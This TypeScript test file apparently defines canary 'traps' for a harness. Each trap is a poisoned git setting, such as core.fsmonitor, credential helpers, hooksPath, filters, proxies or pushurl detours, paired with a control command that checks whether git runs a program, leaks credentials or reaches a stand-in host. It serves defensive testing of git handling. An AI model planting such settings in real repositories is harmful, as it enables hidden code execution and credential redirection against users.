import type { Trap } from './canary.ts';
import type { SeenRequest } from './git-server.ts';

/** A trap that is made of settings only. */
const setting = (name: string, settings: Readonly<Record<string, string>>, control?: Trap['control']): Trap => {
  const set = Object.entries(settings).map(([key, value]) => `git config $F --add "${key}" "${value}"`);
  return { name, set: set.join('; '), ...(control ? { control } : {}) };
};

/** Makes a trap's program all hooks of a folder. */
const hooksIn = (folder: string): string =>
  [
    `mkdir -p "${folder}"`,
    'for hook in post-checkout pre-push reference-transaction post-index-change pre-auto-gc post-merge pre-commit \\',
    ` fsmonitor-watchman update post-update; do ln -sf "$C" "${folder}/$hook"; done`,
  ].join('\n');

const asks = 'git ls-remote "$U"';
const asksUnasked = 'env -u GIT_ASKPASS git ls-remote "$U"';
const checksOut =
  'git checkout -q --detach; git checkout -q -; rm -f README.md data.txt; git checkout -q README.md data.txt';
const pushes = 'git push origin HEAD:refs/heads/control';
const dryRun = 'git push --porcelain --dry-run origin';
const header = (name: string, value: string) => (seen: readonly SeenRequest[]) =>
  seen.some(({ headers }) => String(headers[name]).includes(value));

/** Settings that make git run programs. */
export const programTraps: readonly Trap[] = [
  setting('fsmonitor', { 'core.fsmonitor': '$C' }, ['git status', 'runs']),
  setting('credential-helper', { 'credential.helper': '!$C' }, [asks, 'runs']),
  setting('credential-helper-of-url', { 'credential.https://$S.helper': '$C' }, [asks, 'runs']),
  setting('credential-store', { 'credential.helper': 'store' }, [asks, 'keeps']),
  setting('ask-pass', { 'core.askPass': '$C' }, [asksUnasked, 'runs']),
  setting('ssh-command', { 'core.sshCommand': '$C', 'ssh.variant': 'simple' }, [
    'git ls-remote ssh://127.0.0.1/x',
    'runs',
  ]),
  setting('git-proxy', { 'core.gitProxy': '$C' }, ['git ls-remote "git://$E/x"', 'runs']),
  setting('external-diff', { 'diff.external': '$C' }, [
    'echo x >>README.md; git diff; git checkout -q README.md',
    'runs',
  ]),
  setting('gpg', { 'gpg.program': '$C', 'commit.gpgSign': 'true' }, [
    "git -c user.name=A -c user.email=a@example.invalid commit-tree -S -m m 'HEAD^{tree}'",
    'runs',
  ]),
  setting('pager', { 'core.pager': '$C', 'pager.fetch': '$C', 'pager.push': '$C' }),
  setting('aliases', { 'alias.push': '!$C', 'alias.fetch': '!$C', 'alias.worktree': '!$C', 'alias.clone': '!$C' }),
  setting('pack-objects-hook', { 'uploadpack.packObjectsHook': '$C' }),
  setting('upload-pack', { 'remote.origin.uploadpack': '$C' }, [
    'git -c "url.$HOME/.insteadOf=https://" ls-remote origin',
    'runs',
  ]),
  setting('receive-pack', { 'remote.origin.receivepack': '$C' }, [
    'git -c "url.$HOME/.insteadOf=https://" push origin HEAD:refs/heads/control',
    'runs',
  ]),
  setting('remote-helper', { 'remote.origin.vcs': 'evil' }, [
    'ln -sf "$C" "$HOME/git-remote-evil"; PATH=$HOME:$PATH git ls-remote origin',
    'runs',
  ]),
  {
    name: 'hooks-path',
    set: `${hooksIn('$HOME/hooks')}; git config $F --add core.hooksPath "$HOME/hooks"`,
    control: [checksOut, 'runs'],
  },
  {
    name: 'include',
    set: 'git config --file "$HOME/included" credential.helper "!$C"; git config $F --add include.path "$HOME/included"',
    control: [asks, 'runs'],
  },
  {
    name: 'conditional-include',
    set: [
      'git config --file "$HOME/included-too" credential.helper "!$C"',
      'git config $F --add "includeIf.gitdir:/.path" "$HOME/included-too"',
    ].join('; '),
    control: [asks, 'runs'],
  },
  {
    name: 'filter',
    set: [
      "printf '*.md filter=evil\\n*.txt filter=evilprocess\\n' >$HOME/attributes",
      'git config $F --add core.attributesFile "$HOME/attributes"',
      'git config $F --add filter.evil.clean "$C cat"',
      'git config $F --add filter.evil.smudge "$C cat"',
    ].join('; '),
    control: [checksOut, 'runs'],
  },
  {
    name: 'filter-process',
    set: [
      "printf '*.md filter=evil\\n*.txt filter=evilprocess\\n' >$HOME/attributes",
      'git config $F --add core.attributesFile "$HOME/attributes"',
      'git config $F --add filter.evilprocess.process "$C process"',
    ].join('; '),
    control: [checksOut, 'runs'],
  },
];

/** What only the user's own file of configuration, or another file of the home, can do. */
export const homeTraps: readonly Trap[] = [
  setting('trace', { 'trace2.eventTarget': '$HOME/trace', 'trace2.envVars': 'TEST_GIT_TOKEN' }, [asks, 'keeps']),
  setting('pack-objects-hook-of-home', { 'uploadpack.packObjectsHook': '$C' }, [
    'git clone -q --no-local . "$HOME/copy-$$"',
    'runs',
  ]),
  {
    name: 'template',
    set: `${hooksIn('$HOME/template/hooks')}; git config $F --add init.templateDir "$HOME/template"`,
    control: ['git clone -q . "$HOME/copy-$$"', 'runs'],
  },
  {
    name: 'configuration-of-xdg',
    set: 'mkdir -p "$HOME/.config/git"; git config --file "$HOME/.config/git/config" credential.helper "!$C"',
    control: [asks, 'runs'],
  },
  {
    name: 'netrc',
    set: "echo 'machine 127.0.0.1 login netrc password netrc' >$HOME/.netrc",
    control: [asksUnasked, (seen) => seen.some(({ credentials }) => credentials === 'wrong')],
  },
];

/** Traps in the clone's own folder beside its configuration. */
export const repositoryTraps: readonly Trap[] = [
  { name: 'hooks', set: hooksIn('.git/hooks'), control: [checksOut, 'runs'] },
  {
    name: 'attributes',
    set: 'mkdir -p .git/info; echo "* filter=here" >.git/info/attributes; git config $F --add filter.here.smudge "$C cat"',
    control: [checksOut, 'runs'],
  },
  {
    name: 'alternate-refs',
    set: [
      '[ -d "$HOME/other" ] || git clone -q --bare . "$HOME/other"',
      'echo "$HOME/other/objects" >.git/objects/info/alternates',
      'git config $F --add core.alternateRefsCommand "$C"',
    ].join('; '),
    control: ['git fetch -q "$U" other', 'runs'],
  },
  {
    name: 'alternate-configuration',
    set: [
      '[ -d "$HOME/other" ] || git clone -q --bare . "$HOME/other"',
      'echo "$HOME/other/objects" >.git/objects/info/alternates',
      'for key in core.fsmonitor core.alternateRefsCommand credential.helper core.sshCommand; do',
      '  git --git-dir "$HOME/other" config $key "$C"; done',
    ].join('\n'),
  },
];

/** Settings that lead requests elsewhere, or put something into them. */
export const detourTraps: readonly Trap[] = [
  setting('push-url', { 'remote.origin.pushurl': 'https://$E/x.git' }, [pushes, 'reaches']),
  setting('push-default', { 'remote.pushDefault': 'evil', 'remote.evil.url': 'https://$E/x.git' }, [
    'git -c push.default=current push',
    'reaches',
  ]),
  setting('instead-of', { 'url.https://$E/.insteadOf': 'https://$S/' }, [asks, 'reaches']),
  setting('push-instead-of', { 'url.https://$E/.pushInsteadOf': 'https://$S/' }, [
    'git push "$U" HEAD:refs/heads/control',
    'reaches',
  ]),
  setting('proxy', { 'http.proxy': 'http://$E' }, [asks, 'reaches']),
  setting('proxy-of-url', { 'http.https://$S.proxy': 'http://$E' }, [asks, 'reaches']),
  setting('proxy-of-remote', { 'remote.origin.proxy': 'http://$E' }, ['git ls-remote origin', 'reaches']),
  setting('remote-named-as-url', { 'remote.$U.pushurl': 'https://$E/x.git' }, [
    'git push "$U" HEAD:refs/heads/control',
    'reaches',
  ]),
  setting('proxy-of-remote-named-as-url', { 'remote.$U.proxy': 'http://$E' }, [asks, 'reaches']),
  setting('certificate', { 'http.sslVerify': 'false' }, [
    'unset GIT_SSL_CAINFO; git ls-remote "$U"',
    /refs\/heads\/main/,
  ]),
  setting('header', { 'http.extraHeader': 'X-Evil: evil' }, [asks, header('x-evil', 'evil')]),
  setting('header-of-url', { 'http.https://$S.extraHeader': 'X-Evil: evil' }, [asks, header('x-evil', 'evil')]),
  setting('user-agent', { 'http.userAgent': 'evil' }, [asks, header('user-agent', 'evil')]),
  {
    name: 'cookies',
    set: [
      "printf '127.0.0.1\\tFALSE\\t/\\tFALSE\\t0\\tevil\\tevil\\n' >$HOME/cookies",
      'git config $F --add http.cookieFile "$HOME/cookies"',
    ].join('; '),
    control: [asks, header('cookie', 'evil')],
  },
];

/** Settings that push or fetch more than was asked for. */
export const moreRefsTraps: readonly Trap[] = [
  setting('mirror', { 'remote.origin.mirror': 'true' }, [dryRun, /refs\/(tags|remotes)\/.*:refs\/(tags|remotes)\//]),
  setting('push-refspec', { 'remote.origin.push': '+refs/*:refs/*' }, [dryRun, /refs\/(tags|remotes)\//]),
  setting('push-of-remote-named-as-url', { 'remote.$U.push': '+refs/*:refs/*', 'remote.$U.mirror': 'true' }, [
    'git push --porcelain --dry-run "$U"',
    /refs\/(tags|remotes)\//,
  ]),
  {
    name: 'follow-tags',
    set: [
      'git config $F --add push.followTags true',
      'git rev-parse -q --verify refs/tags/annotated || git -c user.name=A -c user.email=a@example.invalid tag -a -m a annotated',
    ].join('; '),
    control: ['git push --porcelain --dry-run origin HEAD:refs/heads/control', /refs\/tags\/annotated/],
  },
  setting('push-option', { 'push.pushOption': 'evil' }, [
    pushes,
    (_seen, { repository }) => repository.pushed().some((line) => line.endsWith('options=1')),
  ]),
  setting('tags', { 'remote.origin.tagOpt': '--tags', 'remote.origin.fetch': '+refs/*:refs/all/*' }, [
    'git fetch --dry-run origin',
    /refs\/all/,
  ]),
  setting('others', {
    'push.default': 'matching',
    'push.recurseSubmodules': 'on-demand',
    'push.gpgSign': 'if-asked',
    'fetch.prune': 'true',
    'fetch.pruneTags': 'true',
    'remote.origin.prune': 'true',
    'submodule.recurse': 'true',
    'gc.auto': '1',
    'gc.autoPackLimit': '1',
    'maintenance.auto': 'true',
    'transfer.bundleURI': 'true',
  }),
];
